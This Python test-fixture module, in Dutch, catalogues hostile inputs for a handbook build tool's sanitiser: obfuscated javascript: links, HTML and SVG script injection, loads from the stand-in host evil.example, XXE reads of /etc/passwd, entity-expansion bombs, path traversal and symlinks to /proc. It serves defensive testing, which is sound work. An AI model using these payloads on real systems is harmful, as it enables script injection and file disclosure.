"""The attacks: for each the files that a partner hands in, what handboek says of them, and what it does.

`says` is the id of the message of a strict build; None when nothing is wrong with it because nothing can come of it.
The files lie over `basis`, the good handbook of the command tests. `HOSTILE.md` is made of this list.
"""

import os

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"{0}>{1}</svg>'
CHAPTER = "---\ntitel: Een\nnummer: 1\nthemas: [polarisatie]\n---\n\n## Samen {{#samen}}\n\n[@kis-2017]\n\n{}\n"
SECRET = "GEHEIM-van-buiten-4711"


class Attack:
    def __init__(self, group, name, says, files=None, does="", prepare=None, soft=True):
        self.group, self.name, self.says, self.files = group, name, says, files or {}
        self.does, self.prepare, self.soft = does, prepare, soft


def text(markdown):
    """A chapter with this in it."""
    return {"hoofdstukken/01-een.md": CHAPTER.format(markdown)}


def drawing(inner, attributes="", head=""):
    return {"beelden/kaart.svg": head + SVG.format(attributes, inner)}


def links():
    group, does = "Adressen", "de tekst blijft, de link vervalt"
    for name, address, says in (
        ("javascript:", "javascript:alert(1)", "HB-LINK-004"),
        ("met hoofdletters", "JaVaScRiPt:alert(1)", "HB-LINK-004"),
        ("met een teken als entiteit", "javascript&colon;alert(1)", "HB-LINK-004"),
        ("met letters als entiteit", "&#106;&#x61;vascript:alert(1)", "HB-LINK-004"),
        ("met een tab als entiteit", "java&Tab;script:alert(1)", "HB-LINK-001"),
        ("met een regeleinde als entiteit", "java&NewLine;script:alert(1)", "HB-LINK-001"),
        ("met een stuurteken ervoor", "&#1;javascript:alert(1)", "HB-LINK-001"),
        ("met een spatie ervoor", "<&#32;javascript:alert(1)>", "HB-LINK-001"),
        ("met een zacht afbreekteken", "java&shy;script:alert(1)", "HB-LINK-001"),
        ("met procenten", "javascript%3Aalert(1)", "HB-LINK-001"),
        ("vbscript:", "VBScript:MsgBox", "HB-LINK-004"),
        ("data:", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "HB-LINK-004"),
        ("data: met hoofdletters", "DATA:text/html,x", "HB-LINK-004"),
        ("file:", "file:///etc/passwd", "HB-LINK-004"),
        ("blob:, filesystem:, view-source:", "view-source:https://example.org", "HB-LINK-004"),
        ("een eigen soort adres", "ms-msdt:/id", "HB-LINK-004"),
    ):
        yield Attack(group, f"Link in Markdown, {name}", says, text(f"[tekst]({address})"), does)
        if name in ("javascript:", "data:", "met een tab als entiteit", "file:"):
            yield Attack(group, f"Link met naam in Markdown, {name}", says, text(f"[tekst][a]\n\n[a]: {address}"), does)
            picture = says if says == "HB-LINK-004" else "HB-BEELD-003"
            yield Attack(group, f"Afbeelding in Markdown, {name}", picture, text(f"![een beeld]({address})"),
                         "de beschrijving komt in de plaats")
    yield Attack(group, "Adres tussen < en >, javascript:", "HB-LINK-004", text("<javascript:alert(1)>"), does)
    yield Attack(group, "Adres met een aanhalingsteken en een handler", None,
                 text('[tekst](<https://example.org/"onclick="alert(1)>)'), "het teken wordt %22")
    yield Attack(group, "Titel van een link met HTML", None,
                 text("""[tekst](https://example.org '"><script>alert(1)</script>')"""), "de titel is tekst")
    for kind, path, fields in (
        ("URL van een publicatie", "publicaties/kis-2017.md",
         "type: report\ntitle: T\nissued: 2017\nthemas: [polarisatie]\nbewijs: praktijkervaring\nURL: {0}"),
        ("url van aanbod", "aanbod/gesprek.md",
         "titel: T\nsoort: training\nvorm: leergang\naanbieders: [vng]\nthemas: [dialoog]\ndoelgroepen: [gemeente]\nurl: {0}"),
        ("url van een partner", "partners/vng.md", "naam: Vereniging\nafkorting: VNG\nurl: {0}"),
    ):
        for name, address in (("javascript:", "javascript:alert(1)"), ("hoofdletters", "'JAVASCRIPT:alert(1)'"),
                              ("een tab", '"java\\tscript:alert(1)"'), ("een stuurteken", '"\\x01javascript:alert(1)"'),
                              ("data:", "data:text/html,x"), ("https: na een regeleinde", '"javascript:alert(1)\\nhttps://x"')):
            yield Attack(group, f"{kind}, {name}", "HB-VELD-003", {path: f"---\n{fields.format(address)}\n---\n\nTekst.\n"},
                         "het veld vervalt")
    yield Attack(group, "DOI van een publicatie met een script", None, {
        "publicaties/kis-2017.md": '---\ntype: report\ntitle: T\nissued: 2017\nthemas: [polarisatie]\n'
        'bewijs: praktijkervaring\nDOI: "10.1/x\\"><script>alert(1)</script>"\n---\n\nTekst.\n'}, "het adres wordt gecodeerd")
    yield Attack(group, "Titels en namen met HTML", None, {
        "begrippen/driehoek.md": "---\nterm: '<script>alert(1)</script>\"onload=x'\n---\n\nTekst.\n"}, "het is tekst")


def html():
    group, does = "HTML in Markdown", "met --soepel blijven alleen de woorden"
    for name, markup in (
        ("script", "<script>alert(1)</script>"), ("script zonder eind", "<script>alert(1)"),
        ("SCRIPT met een schuine streep", "<SCRIPT/x src=//evil.example/x.js></SCRIPT >"),
        ("handler", '<p onclick="alert(1)">x</p>'), ("img met onerror", "<img src=x onerror=alert(1) alt=x>"),
        ("svg met onload", "<svg onload=alert(1)><text>x</text></svg>"),
        ("svg met animate", '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>'),
        ("math met een link", '<math><mtext href="javascript:alert(1)">x</mtext></math>'),
        ("iframe", '<iframe src="javascript:alert(1)"></iframe>'), ("iframe met srcdoc", '<iframe srcdoc="<script>1</script>"></iframe>'),
        ("object", '<object data="data:text/html,x"></object>'), ("embed", '<embed src="https://evil.example/x">'),
        ("form", '<form action="https://evil.example"><input name=a><button formaction="javascript:1">x</button></form>'),
        ("base", '<base href="https://evil.example/">'), ("meta refresh", '<meta http-equiv=refresh content="0;url=javascript:1">'),
        ("link naar stijlblad", '<link rel=stylesheet href="https://evil.example/x.css">'),
        ("style", "<style>@import 'https://evil.example/x.css';</style>"),
        ("style als attribuut", '<p style="background:url(https://evil.example/x)">x</p>'),
        ("a met javascript:", '<a href="java&#115;cript:alert(1)">x</a>'),
        ("a met een tab", '<a href="java&#9;script:alert(1)">x</a>'), ("a met ping", '<a href="https://example.org" ping="https://evil.example">x</a>'),
        ("video met poster", '<video poster="https://evil.example/p" src="javascript:1"></video>'),
        ("afbeelding van elders", '<img src="https://evil.example/x.png" alt="x">'),
        ("picture met srcset", '<picture><source srcset="https://evil.example/x"><img src="beelden/kaart.svg" alt="x"></picture>'),
        ("noscript met een gebroken tag", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>'),
        ("template", "<template><script>alert(1)</script></template>"), ("CDATA", "<![CDATA[<script>alert(1)</script>]]>"),
        ("opdracht", "<?xml-stylesheet href='https://evil.example/x.css'?>"), ("verklaring", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
        ("voorwaardelijk commentaar", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    ):
        # CommonMark takes these for text, or they have no words: nothing comes of them.
        block = None if name in ("SCRIPT met een schuine streep", "opdracht", "voorwaardelijk commentaar") else "HB-HTML-001"
        inline = None if name in ("CDATA", "verklaring") else block
        yield Attack(group, f"Blok: {name}", block, text(markup), does if block else "het is tekst, of vervalt")
        yield Attack(group, f"In de regel: {name}", inline, text(f"Tekst {markup} verder."), does if inline else "het is tekst, of vervalt")
    yield Attack(group, "In een tabel, een noot en een kop", "HB-HTML-001",
                 text("| a |\n|---|\n| <img src=x onerror=alert(1)> |\n\nx[^1]\n\n[^1]: <script>alert(1)</script>\n\n"
                      "### Kop <svg onload=alert(1)>"), does)
    yield Attack(group, "HTML in code", None, text("`<script>alert(1)</script>`\n\n```html\n</code></pre><script>alert(1)</script>\n```"),
                 "het is tekst")
    yield Attack(group, "Kenmerken van een kop", "HB-KOP-002", text('## Kop {#a" onclick="alert(1)}'), "de naam vervalt")
    yield Attack(group, "Taal van een codeblok", None, text('```"><script>alert(1)</script>\nx\n```'), "de naam is tekst of vervalt")


def drawings():
    group, refused = "Tekeningen", "de tekening wordt geweigerd; wat de ernst ook is, er komt een lege in de plaats"
    for name, files in (
        ("script", drawing("<script>alert(1)</script>")), ("script van elders", drawing('<script href="https://evil.example/x.js"/>')),
        ("script in de naamruimte van HTML", drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')),
        ("afbeelding van HTML", drawing('<metadata><img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/x"/></metadata>')),
        ("handler", drawing("", ' onload="alert(1)"')), ("handler met hoofdletters", drawing('<rect OnClick="alert(1)"/>')),
        ("foreignObject", drawing('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>')),
        ("use van elders", drawing('<use xlink:href="https://evil.example/x.svg#a"/>')),
        ("use van een bestand", drawing('<use href="../../geheim.svg#a"/>')),
        ("use van data:", drawing('<use href="data:image/svg+xml,x#a"/>')),
        ("afbeelding van elders", drawing('<image href="https://evil.example/x.png"/>')),
        ("afbeelding van een bestand", drawing('<image xlink:href="/etc/passwd"/>')),
        ("tekening in een afbeelding", drawing('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>')),
        ("feImage van elders", drawing('<filter id="f"><feImage href="https://evil.example/x"/></filter>')),
        ("link met javascript:", drawing('<a href="javascript:alert(1)"><text>x</text></a>')),
        ("link met een regeleinde", drawing('<a href="java&#10;script:alert(1)"><text>x</text></a>')),
        ("link met hoofdletters en een spatie", drawing('<a xlink:href=" JavaScript:alert(1)"><text>x</text></a>')),
        ("link met data:", drawing('<a href="data:text/html,x"><text>x</text></a>')),
        ("link met vbscript:", drawing('<a href="vbscript:x"><text>x</text></a>')),
        ("animate verandert een link", drawing('<a href="#a"><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>')),
        ("set verandert een handler", drawing('<set attributeName="onclick" to="alert(1)"/>')),
        ("handler van SVG Tiny", drawing('<handler type="text/ecmascript">alert(1)</handler>')),
        ("xml-events", drawing('<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="click"/>')),
        ("stijl met @import", drawing("<style>@import 'https://evil.example/x.css';</style>")),
        ("stijl met @import in tekens", drawing("<style>@\\69mport 'https://evil.example/x.css';</style>")),
        ("stijl met url()", drawing("<style>rect{fill:url(https://evil.example/x#a)}</style>")),
        ("stijl met url() in tekens", drawing("<style>rect{fill:u\\72 l(//evil.example/x#a)}</style>")),
        ("stijl in CDATA", drawing("<style><![CDATA[rect{background:url('//evil.example')}]]></style>")),
        ("lettertype van elders", drawing("<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}</style>")),
        ("image-set()", drawing("<style>rect{background:image-set('https://evil.example/x' 1x)}</style>")),
        ("attribuut style", drawing('<rect style="fill:url(&quot;https://evil.example/x&quot;)"/>')),
        ("attribuut fill", drawing('<rect fill="url(https://evil.example/x#a)"/>')),
        ("attribuut filter met tekens", drawing('<rect filter="u\\72l(https://evil.example/x#a)"/>')),
        ("xml:base", drawing('<use href="#a"/>', ' xml:base="https://evil.example/"')),
        ("src", drawing('<rect src="https://evil.example/x"/>')),
        ("xml-stylesheet", drawing("", head='<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>')),
        ("ATTLIST geeft een handler", drawing("", head='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>')),
        ("ENTITY van een bestand", drawing("<text>a</text>", head='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        ("ENTITY met een script, ongebruikt", drawing("<text>a</text>", head='<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>')),
        ("tien maal tien maal … door use", drawing("".join(
            f'<g id="a{n}">' + f'<use href="#a{n + 1}"/>' * 10 + "</g>" for n in range(10)) + '<g id="a10"><rect/></g>')),
        ("hetzelfde met een spatie en met procenten", drawing("".join(
            f'<g id="a{n}">' + f'<use href=" #%61{n + 1}"/>' * 10 + "</g>" for n in range(10)) + '<g id="a10"><rect/></g>')),
    ):
        yield Attack(group, name, "HB-BEELD-005", files, refused, soft=False)
    for name, files in (
        ("ENTITY die gebruikt wordt", drawing("<text>&x;</text>", head='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        ("een miljard entiteiten", drawing("<text>&j;</text>", head="<!DOCTYPE svg [<!ENTITY a 'xxxxxxxxxx'>" + "".join(
            f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefghi", "bcdefghij")) + "]>")),
        ("een andere tekenset", {"beelden/kaart.svg": "<?xml version='1.0' encoding='UTF-7'?>" + SVG.format("", "+ADw-script+AD4-")}),
        ("UTF-16", {"beelden/kaart.svg": ("\ufeff" + SVG.format("", "<script>x</script>")).encode("utf-16-le")}),
        ("een kenmerk met een onzichtbaar teken in de naam", drawing("", ' xml:b\ufeffase="https://evil.example/"')),
        ("geen SVG maar HTML", {"beelden/kaart.svg": "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"}),
        ("duizenden lagen", drawing("<g>" * 5000 + "</g>" * 5000)),
        ("honderdduizend attributen", drawing("<rect " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>")),
    ):
        yield Attack(group, name, "HB-BEELD-004", files, "de tekening wordt geweigerd", soft=False)
    for name, inner in (
        ("kleurverloop, masker en stijl van de tekening zelf",
         '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs><style>rect{fill:url(#g)}</style>'
         '<rect width="1" height="1" fill="url(#g)" style="mask:url(\'#g\')"/><use href="#g"/>'),
        ("gewone link", '<a href="https://example.org"><title>Ga</title><text>x</text></a>'),
        ("animatie van een kleur", '<rect width="1" height="1"><animate attributeName="fill" values="red;blue" dur="1s"/></rect>'),
        ("gebruik van zichzelf", '<g id="a"><use href="#a"/></g>'),
    ):
        yield Attack(group, f"Wel toegestaan: {name}", None, drawing(inner), "de tekening komt in het boek")


def outside():
    group, does = "Buiten de map", "niets van buiten wordt gelezen"
    for name, address, says in (
        ("met ..", "../../geheim.md", "HB-LINK-003"), ("met .. in procenten", "%2e%2e/%2e%2e/%2e%2e/geheim.md", "HB-LINK-003"),
        ("met .. tussen mappen", "../beelden/../../../geheim.md", "HB-LINK-003"), ("absoluut", "/etc/passwd", "HB-LINK-001"),
        ("met backslashes", "..\\\\..\\\\geheim.md", "HB-LINK-001"), ("met een nulteken", "../geheim.md%00.svg", "HB-LINK-001"),
        ("/proc", "/proc/self/environ", "HB-LINK-001"),
    ):
        yield Attack(group, f"Link {name}", says, text(f"[tekst]({address})"), does)
        yield Attack(group, f"Afbeelding {name}", says if says == "HB-LINK-003" else "HB-BEELD-003", text(f"![een beeld]({address})"), does)

    def linked(target, path):
        def make(folder):
            place = folder / path
            place.parent.mkdir(parents=True, exist_ok=True)
            if place.is_dir():
                place.rename(place.with_name("weg"))
            place.unlink(missing_ok=True)
            place.symlink_to(target)
        return make

    def special(path, kind):
        def make(folder):
            (folder / path).unlink(missing_ok=True)
            os.mkfifo(folder / path) if kind == "pijp" else (folder / path).symlink_to("/dev/zero")
        return make

    yield Attack(group, "Koppeling als hoofdstuk", "HB-BOEK-001", {}, does, linked("../../../geheim.md", "hoofdstukken/01-een.md"), soft=False)
    yield Attack(group, "Koppeling als afbeelding", "HB-BEELD-003", {}, does, linked("../../geheim.svg", "beelden/kaart.svg"))
    yield Attack(group, "Koppeling als map van afbeeldingen", "HB-BEELD-003", {}, does, linked("../../buiten", "beelden"))
    yield Attack(group, "Koppeling als map van hoofdstukken", "HB-BOEK-001", {}, does, linked("../../buiten", "hoofdstukken"), soft=False)
    yield Attack(group, "Koppeling als begrip", "HB-LINK-001", {}, does, linked("/etc/passwd", "begrippen/driehoek.md"))
    yield Attack(group, "Koppeling als handboek.yml", "HB-BRON-004", {}, does, linked("../../geheim.md", "handboek.yml"), soft=False)
    yield Attack(group, "Koppeling als adressen.yml", "HB-BRON-004", {}, does, linked("../../geheim.md", "adressen.yml"), soft=False)
    yield Attack(group, "Koppeling naar /proc als begrip", None, {}, does, linked("/proc/self/environ", "begrippen/nieuw.md"))
    yield Attack(group, "Pijp als hoofdstuk", "HB-BOEK-001", {}, does, special("hoofdstukken/01-een.md", "pijp"), soft=False)
    yield Attack(group, "Pijp als afbeelding", "HB-BEELD-003", {}, does, special("beelden/kaart.svg", "pijp"))
    yield Attack(group, "Apparaat als adressen.yml", "HB-BRON-004", {}, does, special("adressen.yml", "apparaat"), soft=False)
    yield Attack(group, "Hoofdstuk buiten de map in handboek.yml", "HB-BOEK-001", {
        "handboek.yml": "titel: T\ntaal: nl\nidentificatie: urn:x:t\ndatum: 2026-11-22\nhoofdstukken: [../../geheim.md, /etc/passwd]\n"}, does, soft=False)
    yield Attack(group, "Halte van een leerroute buiten de map", "HB-LINK-003", {
        "leerroutes/raadslid.md": "---\ntitel: T\nrol: raadslid\nhaltes:\n  - plek: ../../../geheim.md\n---\n\nTekst.\n"}, does)


def all_attacks():
    return [*links(), *html(), *drawings(), *outside()]
